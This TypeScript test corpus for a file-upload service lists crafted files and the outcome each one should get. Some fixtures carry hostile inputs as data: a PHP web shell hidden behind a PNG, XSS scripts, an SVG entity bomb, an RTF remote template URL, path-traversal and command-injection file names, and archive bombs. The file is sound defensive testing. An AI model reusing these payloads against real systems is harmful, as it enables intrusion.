// The upload corpus: every file of security.md 3.2 that a person could send, and what must become of it.
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { eicar } from '../clamd.js';
import * as archives from './archives.ts';
import { media } from './media.ts';
import { doc, lockedPackage } from './ole.ts';
import * as papers from './papers.ts';
import * as pictures from './pictures.ts';

/**
 * What becomes of a file. `refused`: it is not taken, with words. The rest was taken: `ready` has pictures of its pages,
 * `none` is of a kind that has none, and the others say why not. `infected` and `not clean` never open.
 */
export type Outcome = 'refused' | 'ready' | 'none' | 'unreadable' | 'locked' | 'too_complex' | 'infected' | 'not clean';

export type CorpusFile = {
  id: string;
  about: string;
  /** As the person's program would call it. */
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  /** More than one: where it depends on a program that may be absent, or on how much a scanner looks into. */
  outcome: Outcome | readonly Outcome[];
  /** How many pages have a picture, when `ready`. */
  pages?: number;
  /** The picture must show the four corners where they belong. */
  upright?: true;
};

const file = (id: string, about: string, name: string, outcome: CorpusFile['outcome'], bytes: CorpusFile['bytes'], more: Partial<CorpusFile> = {}): CorpusFile => ({ id, about, name, bytes, outcome, ...more });
const text = (words: string) => () => Buffer.from(words);
const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share));
const flipped = (bytes: Buffer, at: number) => {
  const bent = Buffer.from(bytes);
  for (let n = 0; n < 40; n += 1) bent[Math.floor(bent.length * at) + n * 3]! ^= 0x55;
  return bent;
};
/** Where a letter has pictures only if there is an office program, which nobody needs. */
const letter = ['none', 'ready'] as const;
const upright = { pages: 1, upright: true } as const;
const tail = (words: string) => async () => Buffer.concat([await pictures.png(), Buffer.from(words)]);

/** Names that are no names for a disk (F14). */
const oddNames = ['../../etc/passwd', '..\\..\\boot.ini', 'a\0.pdf', 'CON', '.htaccess', '-rf', 'x'.repeat(300), '😀'.repeat(63), 'gpj.\u202etxt', 'a. ', '%2e%2e%2f', '"a"\r\nX: y;.png', 'صورة.png', 'Gia\u0302\u0301y to\u031b\u0300.png', '$(touch /tmp/p).png'];

export const corpus: readonly CorpusFile[] = [
  file('F01', 'nothing', 'a.jpg', 'refused', () => Buffer.alloc(0)),
  file('F01', 'one byte', 'a.jpg', 'refused', () => Buffer.of(1)),
  file('F02', 'a program called a photo', 'a.jpg', 'refused', () => Buffer.concat([Buffer.from('MZ'), randomBytes(500)])),
  file('F02', 'a program of Linux called a photo', 'a.jpg', 'refused', () => Buffer.concat([Buffer.from('\u007fELF', 'latin1'), randomBytes(500)])),
  file('F02', 'a photo called a PDF', 'a.pdf', 'ready', pictures.jpeg, upright),
  file('F02', 'a PDF called a photo', 'a.jpg', 'ready', () => papers.pdf(), { pages: 1 }),
  file('F02', 'noise', 'a.jpg', 'refused', () => randomBytes(5_000)),

  file('F03', 'harm, plain', 'a.txt', 'refused', text(eicar)),
  file('F03', 'harm in an archive', 'a.zip', 'refused', archives.harmful.zip),
  file('F03', 'harm in a letter of Word', 'a.docx', 'infected', archives.harmful.docx),
  file('F03', 'harm in a letter of LibreOffice', 'a.odt', 'infected', archives.harmful.odt),
  file('F03', 'harm in an archive in a letter', 'a.docx', 'infected', archives.harmful.nested),
  file('F03', 'harm in a file in a PDF', 'a.pdf', 'infected', () => papers.pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 100 0 R] >> >>', more: ['<< /Type /Filespec /F (a) /EF << /F 101 0 R >> >>', `<< /Type /EmbeddedFile /Length ${eicar.length} >>\nstream\n${eicar}\nendstream`] })),
  file('F03', 'harm behind a photo', 'a.jpg', 'infected', async () => Buffer.concat([await pictures.jpeg(), Buffer.from(eicar)])),

  file('F04', 'a PDF with a password for readers', 'a.pdf', ['locked', 'refused'], () => papers.lockedPdf({ user: 'geheim', owner: 'baas' })),
  file('F04', 'a PDF with a password for its owner alone', 'a.pdf', 'ready', () => papers.lockedPdf({ user: '', owner: 'baas' }), { pages: 1 }),
  file('F04', 'a letter of which a part is locked', 'a.docx', 'refused', archives.lockedDocx),
  file('F04', 'a letter of Word with a password', 'a.docx', 'refused', () => lockedPackage(archives.docx(), 'geheim')),
  file('F04', 'an old letter of Word with a password', 'a.doc', 'refused', () => doc({ locked: true })),
  file('F04', 'an old letter of Word that is open', 'a.doc', ['none', 'ready', 'unreadable'], () => doc({ locked: false })),
  file('F04', 'an archive with a password', 'a.zip', 'refused', () => archives.zip([{ name: 'a.txt', bytes: Buffer.from('x'), locked: true }])),

  ...Object.entries(papers.hostilePdfs).map(([about, bytes]) => file('F05', `a PDF with ${about}`, 'a.pdf', 'ready', bytes, { pages: 1 })),
  file('F05', 'a PDF of ten thousand pages', 'a.pdf', 'too_complex', () => papers.pdf({ pages: 10_000 })),
  file('F05', 'a PDF of three pages', 'a.pdf', 'ready', () => papers.pdf({ pages: 3 }), { pages: 3 }),
  file('F05', 'a PDF whose contents point at themselves', 'a.pdf', ['ready', 'unreadable'], papers.loopedPdf),
  file('F05', 'a PDF whose pages contain each other', 'a.pdf', ['ready', 'unreadable', 'too_complex'], papers.endlessTreePdf),
  file('F05', 'a PDF with a bomb of JBIG2', 'a.pdf', ['ready', 'unreadable', 'too_complex'], papers.jbig2Pdf),
  file('F05', 'a PDF with a page of five metres', 'a.pdf', 'ready', papers.widePdf, { pages: 1 }),
  file('F05', 'a PDF in Arabic', 'a.pdf', 'ready', papers.arabicPdf, { pages: 1 }),

  file('F06', 'a page of HTML called a PDF', 'a.pdf', 'refused', text('<!doctype html><script>alert(1)</script>')),
  file('F06', 'a PDF that is HTML as well', 'a.pdf', 'ready', () => Buffer.concat([papers.pdf(), Buffer.from('<html><script>alert(1)</script></html>')]), { pages: 1 }),
  file('F06', 'a PDF that is an archive as well', 'a.pdf', ['ready', 'infected'], () => Buffer.concat([papers.pdf(), archives.zip([{ name: 'a.class', bytes: Buffer.from('x') }])])),
  file('F06', 'a picture that is an archive as well', 'a.gif', 'refused', async () => Buffer.concat([await pictures.moving('gif'), archives.nestedZip(1)])),
  file('F06', 'a picture with PHP behind it', 'a.png', 'ready', tail('<?php system($_GET[0]); ?>'), upright),
  file('F06', 'a picture with a page of HTML behind it', 'a.png', 'ready', tail('<script>alert(1)</script>'), upright),
  file('F06', 'a GIF that says it is a PDF', 'a.pdf', 'refused', text('GIF89a%PDF-1.7')),

  file('F07', 'a drawing with a script', 'a.svg', 'refused', text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')),
  file('F07', 'a drawing that fetches a picture', 'a.svg', 'refused', text('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/a.png"/></svg>')),
  file('F07', 'a drawing that multiplies', 'a.svg', 'refused', text('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>')),

  file('F08', 'a PNG of 3,600 million points', 'a.png', ['too_complex', 'refused'], () => pictures.hugePng(60_000, 60_000)),
  file('F08', 'a JPEG of 4,290 million points', 'a.jpg', ['too_complex', 'refused'], pictures.hugeJpeg),
  file('F08', 'a HEIC of 4,225 million points', 'a.heic', ['too_complex', 'refused'], pictures.hugeHeic),
  file('F08', 'a GIF of many frames', 'a.gif', 'refused', () => pictures.moving('gif')),
  file('F08', 'a TIFF', 'a.tif', 'refused', async () => sharp(await pictures.png()).tiff().toBuffer()),
  file('F08', 'a JPEG of hundreds of scans', 'a.jpg', ['ready', 'too_complex', 'unreadable', 'not clean'], () => pictures.manyScans(400)),

  file('F09', 'a letter that is 300 MB unpacked', 'a.docx', ['too_complex', 'not clean', 'refused'], () => archives.docxBomb(300)),
  file('F09', 'a letter of five thousand parts', 'a.docx', ['too_complex', 'not clean', 'refused'], () => archives.crowdedDocx(5_000)),
  file('F09', 'archives in archives, ten deep', 'a.zip', 'refused', () => archives.nestedZip(10)),
  file('F09', 'a letter with names that climb out', 'a.docx', [...letter, 'unreadable', 'refused'], archives.climbingDocx),
  file('F09', 'a letter whose list says something else', 'a.docx', [...letter, 'unreadable', 'refused'], archives.twoFacedDocx),

  ...[1, 2, 3, 4, 5, 6, 7, 8].map((n) => file('F10', `a photo of a phone that was held in way ${n}`, 'IMG_0412.jpg', 'ready', () => pictures.orientated(n), upright)),
  file('F10', 'a photo of an iPhone', 'IMG_0412.HEIC', 'ready', () => pictures.heic(), upright),
  file('F10', 'a photo of an iPhone on its side', 'IMG_0412.HEIC', 'ready', () => pictures.heic(6), upright),
  file('F10', 'AVIF', 'a.avif', 'ready', pictures.avif, upright),
  file('F10', 'WebP', 'a.webp', 'ready', pictures.webp, upright),
  file('F10', 'a WebP that moves', 'a.webp', 'ready', () => pictures.moving('webp'), upright),
  file('F10', 'a JPEG in CMYK', 'a.jpg', 'ready', pictures.cmyk, upright),
  file('F10', 'a PNG of sixteen bits', 'a.png', 'ready', pictures.deep, upright),
  file('F10', 'a PNG that one can see through', 'a.png', 'ready', pictures.seeThrough, { pages: 1 }),
  file('F10', 'a grey JPEG that comes in steps', 'a.jpg', 'ready', pictures.grey, { pages: 1 }),
  file('F10', '48 megapixels', 'a.jpg', 'ready', pictures.large, { pages: 1 }),

  file('F11', 'a film that is too large', 'a.mp4', 'refused', () => media.mp4(51)),
  file('F11', 'a film', 'a.mp4', 'none', () => media.mp4()),
  file('F11', 'a film of an iPhone', 'a.mov', 'none', media.mov),
  file('F11', 'a film of an old phone', 'a.3gp', 'none', media.threegp),
  file('F11', 'a voice note', 'a.amr', 'none', media.amr),
  file('F11', 'a voice note of WhatsApp', 'a.opus', 'none', media.opus),
  file('F11', 'a song', 'a.mp3', 'none', media.mp3),

  file('F12', 'half a JPEG', 'a.jpg', ['ready', 'unreadable', 'refused'], async () => cut(await pictures.jpeg(), 0.5)),
  file('F12', 'a tenth of a JPEG', 'a.jpg', ['ready', 'unreadable', 'refused'], async () => cut(await pictures.large(), 0.1)),
  file('F12', 'half a PDF', 'a.pdf', ['unreadable', 'refused'], () => cut(papers.pdf({ pages: 3 }), 0.3)),
  file('F12', 'half a HEIC', 'a.heic', ['unreadable', 'refused'], async () => cut(await pictures.heic(), 0.5)),
  file('F12', 'half a film', 'a.mp4', 'none', () => cut(media.mp4(), 0.5)),
  file('F12', 'a JPEG with bits that fell over', 'a.jpg', ['ready', 'unreadable'], async () => flipped(await pictures.jpeg(), 0.6)),
  file('F12', 'a PDF with bits that fell over', 'a.pdf', ['ready', 'unreadable'], () => flipped(papers.pdf(), 0.4)),
  file('F12', 'a PNG with bits that fell over', 'a.png', ['ready', 'unreadable'], async () => flipped(await pictures.png(), 0.5)),
  file('F12', 'a JPEG with rubbish behind it', 'a.jpg', 'ready', async () => Buffer.concat([await pictures.jpeg(), randomBytes(10_000)]), upright),

  file('F13', 'a photo with place, serial numbers and a name', 'a.jpg', 'ready', pictures.jpeg, upright),
  file('F13', 'a PDF with a name', 'a.pdf', 'ready', () => papers.hostilePdfs['an author and a title']!(), { pages: 1 }),
  file('F13', 'a letter with a history', 'a.docx', letter, () => archives.docx('Hallo', [{ name: 'docProps/core.xml', bytes: Buffer.from('<cp:coreProperties xmlns:cp="x"><creator>Zwartkop8101</creator></cp:coreProperties>') }])),

  ...oddNames.map((name) => file('F14', `a name of a file: ${JSON.stringify(name).slice(0, 30)}`, name, 'ready', pictures.webp, upright)),

  file('F15', 'a letter with a macro', 'a.docm', ['refused', 'none', 'ready'], archives.macroDocx),
  file('F15', 'an old file of Microsoft', 'a.doc', 'refused', archives.ole),
  file('F15', 'RTF', 'a.rtf', 'refused', text('{\\rtf1{\\*\\template http://192.0.2.1/a.dotm}}')),
  file('F15', 'a letter with a picture from elsewhere', 'a.odt', letter, archives.remoteOdt),
  file('F15', 'a shortcut', 'a.url', 'refused', text('[InternetShortcut]\r\nURL=http://192.0.2.1/\r\n')),
  file('F15', 'a mail', 'a.eml', 'refused', text('From: a@example.org\r\nSubject: x\r\n\r\nx')),
  file('F15', 'a conversation of WhatsApp', 'chat.zip', 'refused', () => archives.zip([{ name: '_chat.txt', bytes: Buffer.from('x') }])),
];
